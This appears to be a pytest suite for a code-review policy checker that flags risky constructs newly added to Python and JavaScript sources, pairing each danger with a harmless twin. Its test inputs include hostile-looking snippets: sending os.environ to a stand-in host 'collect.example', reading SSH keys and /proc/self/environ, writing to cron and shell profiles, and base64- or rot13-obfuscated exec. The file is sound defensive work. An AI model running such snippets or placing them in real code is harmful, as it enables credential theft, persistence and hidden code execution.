"""What a source newly uses: each danger, and a twin of it that is none."""

from __future__ import annotations

from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from runner.model import Goal
from runner.policy import javascript_uses, python_uses

Said = Callable[..., dict[str, str]]
BASE = "import os\nimport re\n\n\ndef area(w, h):\n    return w + h\n"


@pytest.mark.parametrize(
    ("lines", "rules"),
    [
        ("eval(w)", {"code.dynamic": "block"}),
        ("run = exec; run(w)", {"code.dynamic": "block"}),
        ("import socket; s = socket; s.socket()", {"code.network": "block"}),
        ("import socket; globals()['socket'].socket()", {"code.network": "block"}),
        ("import posix; posix.system(w)", {"code.shell": "block"}),
        ("import operator, os; operator.attrgetter('system')(os)(w)", {"code.shell": "block"}),
        ("import operator, os; operator.methodcaller(w, h)(os)", {"code.dynamic": "block"}),
        ("().__class__.__base__.__subclasses__()", {"code.dynamic": "block"}),
        ("import pathlib; pathlib.Path.home().joinpath('.bashrc').write_text(w)", {"code.files": "block"}),
        ("from pathlib import Path; (Path.home() / '.profile').write_text(w)", {"code.files": "block"}),
        ("import os; open(os.path.expanduser('~/.bashrc'), 'a')", {"code.files": "block"}),
        ("import pip; pip.main(w)", {"code.process": "block"}),
        ("import requests; requests.sessions.Session()", {"code.network": "block"}),
        ('getattr(__builtins__, "ev" + "al")(w)', {"code.dynamic": "block"}),
        ('__builtins__["lave"[::-1]](w)', {"code.dynamic": "block"}),
        ("getattr(os, w)(h)", {"code.dynamic": "block"}),
        ("os.system(w)", {"code.shell": "block"}),
        ("from os import system as s; s(w)", {"code.shell": "block"}),
        ('__import__("o" + "s").popen(w)', {"code.shell": "block"}),
        ("import subprocess; subprocess.run(w, shell=True)", {"code.shell": "block"}),
        ("import subprocess; subprocess.run(w, shell=h)", {"code.shell": "block"}),
        ('import subprocess; subprocess.run(["sh", "-c", w])', {"code.shell": "block"}),
        ('import subprocess; subprocess.run(["git", "log"])', {"code.process": "block"}),
        ("import importlib; importlib.import_module(w)", {"code.computed_import": "block"}),
        ("__import__(w)", {"code.computed_import": "block"}),
        ("import pickle; pickle.loads(w)", {"code.deserialize": "block"}),
        ("import yaml; yaml.load(w)", {"code.deserialize": "block"}),
        ("import yaml; yaml.load(w, Loader=yaml.Loader)", {"code.deserialize": "block"}),
        ("import marshal, shelve; shelve.open(w)", {"code.deserialize": "block"}),
        ("import ctypes; ctypes.CDLL(w)", {"code.native": "block"}),
        ("import requests; requests.get(w)", {"code.network": "block"}),
        ("import urllib.request as u; u.urlopen(w)", {"code.network": "block"}),
        ("from socket import *", {"code.network": "block"}),
        ("import http.client; http.client.HTTPSConnection(w)", {"code.network": "block"}),
        ("import requests; requests.get(w, verify=False)", {"code.network": "block", "code.tls": "block"}),
        ("import tempfile; tempfile.mktemp()", {"code.temporary": "review"}),
        ('open("/etc/cron.d/x", "w")', {"code.files": "block"}),
        ('import pathlib; pathlib.Path("~/.profile").write_text(w)', {"code.files": "block"}),
        ('open("/root/.ssh/id_rsa").read()', {"code.credentials": "block"}),
        ("KEY = '/home/a/.SSH/'", {"code.credentials": "block"}),
        ('open(f"/proc/self/environ").read()', {"code.credentials": "block"}),
        (
            'import requests; requests.post("https://collect.example/", json=dict(os.environ))',
            {"code.network": "block", "code.credentials": "block"},
        ),
        (
            'import base64; exec(base64.b64decode("cHJpbnQoMSk="))',
            {"code.dynamic": "block", "code.decoded": "block"},
        ),
        (
            'x = bytes.fromhex("7072696e74"); exec(x)',
            {"code.dynamic": "block", "code.decoded": "block"},
        ),
        ('exec("cevag(1)".encode().decode("rot13"))', {"code.dynamic": "block", "code.decoded": "block"}),
        # twins that are nothing
        ("re.compile(w)", {}),
        ("w.eval(h)", {}),
        ("import urllib.parse; urllib.parse.quote(w)", {}),
        ("import socket; socket.gethostname()", {}),
        ("import requests; isinstance(w, requests.Response)", {}),
        ("import yaml; yaml.safe_load(w)", {}),
        ("import yaml; yaml.load(w, Loader=yaml.SafeLoader)", {}),
        ("import base64; base64.b64decode(w)", {}),
        ('import importlib; importlib.import_module("json")', {}),
        ('getattr(os, "sep")', {}),
        ("getattr(w, h)", {}),
        ('open("/etc/hosts")', {}),
        ('open("/dev/null", "w")', {}),
        ('open("out.txt", "w")', {}),
        ("import tempfile; tempfile.mkstemp()", {}),
        ("os.environ.copy()", {}),
    ],
)
def test_python(said: Said, lines: str, rules: dict[str, str]) -> None:
    head = BASE.replace("    return w + h\n", f"    {lines}\n    return w * h\n")
    assert said({"area.py": BASE}, {"area.py": head}) == rules


def test_what_was_used_before_is_nothing_new(said: Said) -> None:
    before = "import os\nos.system('ls')\neval('1')\n"
    assert said({"a.py": before}, {"a.py": f"# more\n{before}"}) == {}
    assert said({"a.py": before}, {"a.py": before.replace("'ls'", "'ls -l'")}) == {}
    assert said({"a.py": before}, {"a.py": f"{before}os.system('id')\n"}) == {"code.shell": "block"}


def test_a_new_import_gives_old_lines_another_meaning(said: Said) -> None:
    before = "from mine import system\nsystem('ls')\n"
    assert said({"a.py": before}, {"a.py": before.replace("mine", "os")}) == {"code.shell": "block"}


def test_a_module_of_the_repository_is_not_its_namesake(said: Said) -> None:
    base = {"src/requests/__init__.py": "", "src/requests/api.py": "", "tests/test_api.py": "import requests\n"}
    head = {**base, "tests/test_api.py": "import requests\nrequests.get('https://host.example/')\n"}
    assert said(base, head) == {}


def test_tests_and_improvements_may_have_a_reason(said: Said) -> None:
    base = {"area.py": BASE, "tests/test_area.py": "import area\n"}
    for line, kind in (("eval('1')", "dynamic"), ("import pickle; pickle.loads(b'')", "deserialize")):
        test = {**base, "tests/test_area.py": f"import area\n{line}\n"}
        product = {**base, "area.py": f"{BASE}\n{line}\n"}
        assert said(base, test) == {f"code.{kind}": "review"}
        assert said(base, product) == {f"code.{kind}": "block"}
        assert said(base, product, Goal.IMPROVE) == {f"code.{kind}": "review"}
    hidden = {**base, "area.py": f"{BASE}\nimport base64; exec(base64.b64decode('eA=='))\n"}
    assert said(base, hidden, Goal.IMPROVE)["code.decoded"] == "block"


def test_who_used_the_network_before_is_shown_unless_somebody_new_is_named(said: Said) -> None:
    before = "import requests\n\n\ndef one(url):\n    return requests.get(url)\n"
    more = "\n\ndef two(url):\n    return requests.get(url)\n"
    assert said({"net.py": before}, {"net.py": before + more}) == {"code.network": "review"}
    named = more.replace("(url)\n", "('https://collect.example/')\n")
    assert said({"net.py": before}, {"net.py": before + named}) == {"code.network": "block"}


@pytest.mark.parametrize(
    ("before", "line", "rules"),
    [
        ("", "urlopen('https://collect.example/' + name)", {"code.network_in_tests": "block"}),
        ("", "urlopen(name)", {"code.network_in_tests": "block"}),
        ("", "urlopen('http://127.0.0.1:8000/x')", {}),
        ("", "urlopen(f'http://localhost:{name}/x')", {}),
        # who used the network before may go on, though not to somebody new
        ("urlopen(url)\n", "urlopen(name)", {}),
        ("urlopen('https://a.example/x')\n", "urlopen('https://a.example/y')", {}),
        ("urlopen(url)\n", "urlopen('https://collect.example/')", {"code.network_in_tests": "block"}),
    ],
)
def test_network_in_tests(said: Said, before: str, line: str, rules: dict[str, str]) -> None:
    start = f"from urllib.request import urlopen\nname = url = 1\n{before}"
    assert said({"tests/test_a.py": start}, {"tests/test_a.py": f"{start}\n{line}\n"}) == rules


def test_an_address_of_another_machine(said: Said) -> None:
    start = "import socket\n"
    for host, rules in (("192.0.2.7", {"code.network_in_tests": "block"}), ("127.0.0.1", {}), ("::1", {})):
        head = f"{start}socket.create_connection(({host!r}, 443))\n"
        assert said({"tests/test_a.py": start}, {"tests/test_a.py": head}) == rules


def test_a_source_that_cannot_be_parsed_any_more(said: Said) -> None:
    assert said({"a.py": BASE}, {"a.py": BASE + "def (:\n"}) == {"code.unreadable": "block"}
    assert said({"a.py": "print 1\n"}, {"a.py": "print 2\n"}) == {}
    assert said({}, {"a.py": "print 1\n"}) == {"code.unreadable": "block"}
    assert said({}, {"tests/data/broken.py": "print 1\n"}) == {}


@pytest.mark.parametrize(
    ("line", "rules"),
    [
        ("eval(x);", {"code.dynamic": "block"}),
        ("globalThis.eval(x);", {"code.dynamic": "block"}),
        ("globalThis['eval'](x);", {"code.dynamic": "block"}),
        ("globalThis['ev' + 'al'](x);", {"code.dynamic": "block"}),
        ("(() => {}).constructor(x)();", {"code.dynamic": "block"}),
        ("new Worker(x, { eval: true });", {"code.dynamic": "block"}),
        ("const f = globalThis.fetch;", {"code.network": "block"}),
        ("globalThis['fetch'](x);", {"code.network": "block"}),
        ("createRequire(import.meta.url)('child_process').exec(x);", {"code.process": "block"}),
        ("fs.writeFileSync('/etc/cron.d/x', x);", {"code.files": "block"}),
        ("new Function('a', x)();", {"code.dynamic": "block"}),
        ("[].constructor.constructor(x)();", {"code.dynamic": "block"}),
        ("setTimeout('go()', 1);", {"code.dynamic": "block"}),
        ("const cp = require('child_process');", {"code.process": "block"}),
        ("import { exec } from 'node:child_process';", {"code.process": "block"}),
        ("import vm from 'vm';", {"code.dynamic": "block"}),
        ("fetch('https://collect.example/');", {"code.network": "block"}),
        ("const h = require('https'); h.get(x);", {"code.network": "block"}),
        ("import axios from 'axios';", {"code.network": "block"}),
        ("process.binding('fs');", {"code.native": "block"}),
        ("require(x);", {"code.computed_import": "block"}),
        ("require('child_' + x);", {"code.computed_import": "block"}),
        ("require(`child_${x}`);", {"code.computed_import": "block"}),
        ("await import(x);", {"code.computed_import": "block"}),
        ("eval(atob(x));", {"code.dynamic": "block", "code.decoded": "block"}),
        ("read(`${home}/.ssh/id_rsa`);", {"code.credentials": "block"}),
        ("send(JSON.stringify(process.env));", {"code.credentials": "block"}),
        # twins that are nothing
        ("// eval(x)", {}),
        ("const s = 'eval(x)';", {}),
        ("const r = /eval(x)/;", {}),
        ("model.eval(x);", {}),
        ("cache.fetch(x);", {}),
        ("const t = `no eval(x) here`;", {}),
        ("import type { Agent } from 'http';", {}),
        ("const http = require('http'); http.createServer(f);", {}),
        ("const p = require('./child_process');", {}),
        ("setTimeout(go, 1);", {}),
    ],
)
@pytest.mark.parametrize("path", ["lib/a.js", "src/a.ts"])
def test_javascript(said: Said, path: str, line: str, rules: dict[str, str]) -> None:
    before = "const a = 1;\n"
    assert said({path: before}, {path: f"{before}{line}\n"}) == rules


def test_code_in_a_template_is_code() -> None:
    uses = javascript_uses.uses(
        b"const t = `a ${eval(x)} b ${`c ${fetch('https://h.example/')}`}`; const u = a / b / c;\n"
    )
    assert [(u.kind, u.where) for u in uses] == [("dynamic", ""), ("network", "https://h.example/")]


@settings(max_examples=150)
@given(st.one_of(st.binary(max_size=200), st.text(max_size=200).map(str.encode)))
def test_the_readers_never_break(source: bytes) -> None:
    javascript_uses.uses(source)
    with suppress(python_uses.UnreadableError):
        python_uses.uses(source)


_PIECES = st.sampled_from([
    "'", '"', "`", "${", "}", "{", "/", "/*", "*/", "//", "\\", "\n", "eval(", "require(", ")", "a", " ", "=", "[", "]",
])  # fmt: skip


@given(st.lists(_PIECES, max_size=60).map("".join))
def test_masking_moves_nothing(text: str) -> None:
    masked = javascript_uses.masked(text)
    assert len(masked.code) == len(text)
    assert [i for i, c in enumerate(text) if c == "\n"] == [i for i, c in enumerate(masked.code) if c == "\n"]
    assert all(text[at] in "'\"`}" for at in masked.strings)


_NAMES = st.sampled_from(["os", "eval", "exec", "getattr", "__import__", "x", "subprocess", "system", "base64"])
_TERMS = st.recursive(
    st.one_of(_NAMES, st.sampled_from(["'os'", "b'x'", "1"])),
    lambda inner: st.one_of(
        st.tuples(inner, inner).map(lambda p: f"{p[0]}({p[1]})"),
        st.tuples(inner, inner).map(lambda p: f"({p[0]} + {p[1]})"),
        st.tuples(inner, _NAMES).map(lambda p: f"({p[0]}).{p[1]}"),
        st.tuples(inner, inner).map(lambda p: f"({p[0]})[{p[1]}]"),
    ),
    max_leaves=12,
)


@given(st.lists(_TERMS, max_size=4))
def test_every_python_that_parses_is_read(terms: list[str]) -> None:
    source = "\n".join(["import os, subprocess as s, base64", *terms, ""]).encode()
    for use in python_uses.uses(source):
        assert 1 <= use.first <= use.last <= len(terms) + 1


def test_deep_nesting_is_unreadable_and_no_crash() -> None:
    for source in (
        b"(" * 5000,
        b"-" * 100_000 + b"1",
        b"[" * 300 + b"]" * 300,
        b"a" + b".b" * 50_000,
        b"a+" * 50_000 + b"1",
    ):
        with suppress(python_uses.UnreadableError):
            python_uses.uses(source)
    javascript_uses.uses(b"`${" * 20_000)
